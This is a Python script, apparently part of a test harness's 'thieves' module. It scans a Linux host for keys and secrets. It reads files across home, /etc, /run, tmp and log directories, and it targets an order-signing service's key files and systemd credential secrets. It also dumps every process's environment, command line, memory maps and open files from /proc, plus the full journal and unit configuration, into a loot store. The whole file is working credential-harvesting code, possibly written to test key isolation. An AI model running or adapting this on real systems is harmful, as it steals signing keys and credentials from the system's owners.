"""Walks through everything on the disk and in /proc where keys are kept, and reads the journal, as far as its user may.

Ways: settings (homes, configuration, what runs and what the daemon has), environments, arguments, maps and descriptors
of all processes, journal, and units: what the service manager says about them.
"""

from __future__ import annotations

import os
import stat
import subprocess
from collections.abc import Iterator

from system.thieves.loot import LOOT, take, take_file

PLACES = (
    "/home",
    "/root",
    "/etc",
    "/run",
    "/opt",
    "/srv",
    "/tmp",
    "/var/tmp",
    "/var/lib/systemd",
    "/var/log",
    "/dev/shm",
)
CLOSED = (
    "/etc/ordersigner/policy",
    "/etc/ordersigner/keys",
    "/run/ordersigner-keys",
    "/run/ordersigner-refused-keys",
    "/run/credentials/ordersigner.service",
    "/var/lib/systemd/credential.secret",
)


def files() -> Iterator[str]:
    """Regular files, the largest left out, and links to them."""
    for place in PLACES:
        for directory, _, names in os.walk(place):
            if directory == LOOT:
                continue
            for name in names:
                path = os.path.join(directory, name)
                try:
                    status = os.stat(path)
                except OSError:
                    continue
                if stat.S_ISREG(status.st_mode) and status.st_size < 1 << 20:
                    yield path


def output(*command: str) -> bytes:
    return subprocess.run(command, check=False, stdout=subprocess.PIPE, stderr=subprocess.STDOUT).stdout


def main() -> None:
    for path in (*CLOSED, *files()):
        take_file("settings", path)
    for process in filter(str.isdigit, os.listdir("/proc")):
        take_file("environments", f"/proc/{process}/environ")
        take_file("arguments", f"/proc/{process}/cmdline")
        take_file("maps", f"/proc/{process}/maps")  # no key, but where to look for one
        try:
            numbers = os.listdir(f"/proc/{process}/fd")
        except OSError as error:
            take("descriptors", f"/proc/{process}/fd: {error}".encode())
            continue
        for number in numbers:
            path = f"/proc/{process}/fd/{number}"
            try:
                if stat.S_ISREG(os.stat(path).st_mode):
                    take_file("descriptors", path)
            except OSError:  # it was closed
                pass
    take("journal", output("journalctl", "--all", "--output=json", "--namespace=*"))
    take("units", output("systemctl", "show", "--all", "*.service"))
    take("units", output("systemctl", "cat", "ordersigner.service"))
    take("units", output("ordersigner", "signers"))


if __name__ == "__main__":
    main()
